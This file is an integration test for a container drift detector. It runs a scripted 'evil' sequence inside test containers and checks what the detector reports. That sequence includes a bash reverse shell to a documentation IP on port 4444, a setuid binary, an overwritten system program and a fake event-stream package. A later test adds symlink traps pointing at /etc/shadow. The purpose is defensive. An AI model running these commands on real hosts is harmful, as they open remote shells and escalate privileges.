import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { createAgent } from '../../src/agent/index.ts';
import { silentLog, systemClock } from '../../src/base/index.ts';
import { readChangedFiles } from '../../src/image/engine/changed-files.ts';
import { createEngineClient, createImageReader, createWritableLayerReader } from '../../src/image/index.ts';
import { defaultReadLimits, type OpenWritableLayer, platformOfNode, type Store } from '../../src/model/index.ts';
import type { LookView } from '../../src/model/wire/index.ts';
import { createServices, type ServiceSet } from '../../src/service/index.ts';
import { openStore } from '../../src/store/index.ts';
import {
  type ContainerEngine,
  debianImage,
  debianRelease,
  describeWith,
  startDockerd,
  startPodman,
  writeDockerArchive,
} from '../engines/index.ts';
import { launchParts } from '../fakes/launches.ts';
import { noRegistries } from '../fakes/no-registries.ts';

const host = 'quay-1';
const nmapPurl = `pkg:deb/debian/nmap@7.93-1?arch=amd64&distro=debian-${debianRelease().version}`;
const engines = [
  ['dockerd', startDockerd],
  ['podman', startPodman],
] as const;

describe.each(engines)('%s', (need, start) => {
  describeWith([need, 'busybox'], 'drift of running containers', () => {
    const stop = new AbortController();
    let engine: ContainerEngine;
    let directory: string;
    let image: string;
    let store: Store;
    let services: ServiceSet;
    let working: Promise<unknown>;

    beforeAll(async () => {
      engine = await start();
      directory = mkdtempSync(join(tmpdir(), 'pw-drift-'));
      const archive = join(directory, 'debian.tar');
      writeDockerArchive(debianImage(), archive, 'localhost/harbor/debian:12');
      image = await engine.load(archive);
      store = await openStore({ url: join(directory, 'store.sqlite') });
      services = servicesWith(createWritableLayerReader(sockets()), 300);
      const engineSockets = { docker: [], podman: [], [engine.kind]: [engine.socket] };
      const agent = createAgent({
        host,
        inventory: services.inventory,
        clock: systemClock,
        log: silentLog,
        sockets: engineSockets,
      });
      working = Promise.all([services.work(stop.signal), agent.run(stop.signal)]);
      await vi.waitUntil(async () => (await store.images.counts()).read > 0, 60_000);
    });
    afterAll(async () => {
      stop.abort();
      await working;
      await store?.close();
      await engine?.stop();
      rmSync(directory, { recursive: true, force: true });
    });

    const sockets = () => ({ dockerSockets: [engine.socket], podmanSockets: [engine.socket] });
    function servicesWith(openWritableLayer: OpenWritableLayer, driftEvery?: number): ServiceSet {
      return createServices({
        ...launchParts(),
        store,
        openImage: createImageReader({ engines: sockets() }),
        openWritableLayer,
        ...noRegistries,
        driftEvery,
        clock: systemClock,
        log: silentLog,
        host,
        platform: platformOfNode(process.arch),
        version: '0',
        deliver: async () => {},
        limits: defaultReadLimits,
        content: {},
        unwanted: [],
      });
    }
    async function exec(id: string, script: string): Promise<void> {
      const { Id } = (await engine.call('POST', `/containers/${id}/exec`, {
        Cmd: ['sh', '-ec', script],
        AttachStdout: true,
        AttachStderr: true,
      })) as { Id: string };
      await engine.call('POST', `/exec/${Id}/start`, { Detach: false });
      const { ExitCode } = (await engine.call('GET', `/exec/${Id}/json`)) as { ExitCode: number };
      if (ExitCode !== 0) throw new Error(`"${script}" ended with ${ExitCode}`);
    }
    async function run(name: string): Promise<string> {
      const id = await engine.run({ image, name });
      await vi.waitUntil(async () => (await services.containers({ search: id })).total === 1, 20_000);
      return id;
    }
    const told = (look: LookView | undefined) =>
      look?.items.map(({ rule, subject }) => `${rule.replace('inspect/', '')} ${subject}`).sort();

    const evil = [
      'mkdir -p /opt/deep/er && cp /usr/bin/openssl /opt/deep/er/tool',
      'cp /usr/bin/ls /tmp/suid && chmod 4755 /tmp/suid',
      'printf "#!/bin/sh\\necho hacked\\n" > /usr/bin/sort',
      'printf "#!/bin/sh\\nbash -i >& /dev/tcp/192.0.2.7/4444 0>&1\\n" > /run/call && chmod +x /run/call',
      'echo nothing > /tmp/notes && ln -s /usr/bin/ls /opt/link && rm /usr/bin/cut',
      'mkdir -p /srv/node_modules/event-stream && echo \'{"name":"event-stream","version":"3.3.6"}\' > /srv/node_modules/event-stream/package.json',
      'printf "\\nPackage: nmap\\nStatus: install ok installed\\nVersion: 7.93-1\\nArchitecture: amd64\\n" >> /var/lib/dpkg/status',
      'cp /usr/bin/ls /usr/bin/nmap && printf "/.\\n/usr/bin/nmap\\n" > /var/lib/dpkg/info/nmap.list',
      // As `chown -R` at the start of many images does.
      'chown 1000:1000 /usr/bin/tail && cp -p /usr/bin/head /tmp/h && cat /tmp/h > /usr/bin/head && rm /tmp/h',
    ].join('; ');
    const expected = [
      `drift/added-package ${nmapPurl}`,
      'drift/added-package pkg:npm/event-stream@3.3.6',
      'drift/added-program /opt/deep/er/tool',
      'drift/added-program /run/call',
      'drift/added-program /tmp/suid',
      'drift/changed-program /usr/bin/sort',
      'malware/reverse-shell /run/call',
    ];

    it('is what the image did not bring, with when it appeared, and is looked for on schedule', async () => {
      const id = await run('drifter');
      expect(await services.drift.look('drifter')).toMatchObject({ state: 'looked', items: [], problems: [] });
      const before = Date.now();
      await exec(id, evil);
      const after = Date.now();
      await vi.waitUntil(
        async () => (await services.drift.list({ search: 'drifter' })).total === expected.length,
        20_000,
      );
      const look = await services.drift.look(id.slice(0, 12));
      expect(look).toMatchObject({ state: 'looked', seenBy: 'storage', problems: [], appeared: 0 });
      expect(told(look)).toEqual(expected);
      const rows = new Map(look?.items.map((row) => [row.subject, row]));
      expect(rows.get('/tmp/suid')).toMatchObject({ severity: 'high', confidence: 'certain' });
      expect(rows.get('/tmp/suid')?.detail).toContain('setuid');
      expect(rows.get('/usr/bin/sort')).toMatchObject({ severity: 'high', container: { id, name: 'drifter', host } });
      const nmap = rows.get(nmapPurl);
      expect(nmap?.detail).toBe('nmap 7.93-1; the image has none; with 1 program');
      for (const { changedAt, absentAt, firstSeen } of look?.items ?? []) {
        expect(Date.parse(firstSeen)).toBeGreaterThanOrEqual(before);
        expect(Date.parse(absentAt)).toBeLessThanOrEqual(after);
        if (changedAt === null) continue;
        expect(Date.parse(changedAt)).toBeGreaterThanOrEqual(before - 20);
        expect(Date.parse(changedAt)).toBeLessThanOrEqual(after);
      }
      expect((await services.drift.list({})).looks).toMatchObject({ running: 1, looked: 1, failed: 0, drifted: 1 });

      await exec(id, 'rm /run/call /tmp/suid');
      await vi.waitUntil(async () => (await services.drift.list({})).total === expected.length - 3, 20_000);
      const gone = (await services.drift.list({ gone: true })).items.filter(({ goneAt }) => goneAt !== null);
      expect(gone.map(({ subject }) => subject).sort()).toEqual(['/run/call', '/run/call', '/tmp/suid']);
      await engine.removeContainer(id);
    });

    it('is seen through the engine alone where its storage is out of reach', async () => {
      const id = await run('distant');
      const client = createEngineClient(engine);
      const remote = servicesWith((_kind, container, options) => readChangedFiles(client, container, options));
      try {
        expect(await remote.drift.look('distant')).toMatchObject({ state: 'looked', seenBy: 'engine', items: [] });
        await exec(id, evil);
        const look = await remote.drift.look('distant');
        expect(look?.problems).toEqual([]);
        // What was only touched cannot be told from what was changed.
        expect(told(look)).toEqual(
          [...expected, 'drift/changed-program /usr/bin/head', 'drift/changed-program /usr/bin/tail'].sort(),
        );
        const touched = look?.items.find(({ subject }) => subject === '/usr/bin/tail');
        expect(touched).toMatchObject({ severity: 'medium', confidence: 'guess', changedAt: null });
      } finally {
        await client.close();
        await engine.removeContainer(id);
      }
    });

    it('follows no link out of the container, and opens no pipe or device', async () => {
      const id = await run('trapper');
      await exec(
        id,
        [
          'mkdir -p /var/lib/rpm /lib/apk/db && ln -s /etc/shadow /opt/a.sh && ln -s / /opt/root',
          'mkfifo -m 755 /tmp/pipe && mkfifo /var/lib/rpm/rpmdb.sqlite',
          'rm -rf /etc/ssl && ln -s /proc/self/root/etc /etc/ssl',
          'rm -rf /var/lib/dpkg && ln -s ../../../../../../../../var/lib/dpkg /var/lib/dpkg',
        ].join('; '),
      );
      const look = await services.drift.look('trapper');
      expect(look).toMatchObject({ state: 'looked', items: [] });
      await engine.removeContainer(id);
    });

    it('of a container that is not there is not known, and a failed look says why', async () => {
      expect(await services.drift.look('nobody')).toBeUndefined();
      const id = await run('lost');
      const lost = servicesWith(createWritableLayerReader({ dockerSockets: [], podmanSockets: [] }));
      expect(await lost.drift.look('lost')).toMatchObject({ state: 'failed', message: expect.stringContaining(id) });
      await engine.removeContainer(id);
    });
  });
});
